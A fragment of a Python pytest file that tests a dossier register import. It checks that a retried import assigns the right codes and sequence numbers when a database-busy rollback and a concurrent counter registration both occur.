    numbers = [pieces[r["applicant_name"]][1] for r in rows if r["applicant_name"] in pieces]
    assert sorted(numbers) == list(range(100, 136))  # the file's 100, then the blank ones
    whole.dispose()


def test_an_import_retried_after_a_counter_registered_numbers_again(
    catalogue_db, tmp_path, monkeypatch
):
    """The database was busy and the whole import is run again: meanwhile a counter took the
    day's first code and the year's next number, which the import then numbers after."""
    path = _write(tmp_path / "r.csv", [_row(0), _row(1)])  # 2026-01-05, 2026-01-06
    run_write = catalogue_db.run_write

    class Busy(Exception):
        pass

    def busy_once(work, attempts=8):
        monkeypatch.setattr(catalogue_db, "run_write", run_write)
        with pytest.raises(Busy), catalogue_db.write() as session:
            work(session)
            raise Busy  # rolled back, as a lock timeout would
        dossiers.register(
            catalogue_db, Intake("1.009645", "Lê Thị Hoa", received_at=T(2026, 1, 5, 7, 0))
        )
        return run_write(work, attempts)

    monkeypatch.setattr(catalogue_db, "run_write", busy_once)
    assert register_io.import_register(catalogue_db, path, now=NOW).imported == 2
    stored = _stored(catalogue_db)
    assert stored["Lê Thị Hoa"][:2] == ("000.00.00.X99-260105-0001", 1)
    assert stored["Nguyễn Văn Thành 0"][:2] == ("000.00.00.X99-260105-0002", 2)
    assert stored["Nguyễn Văn Thành 1"][:2] == ("000.00.00.X99-260106-0001", 3)
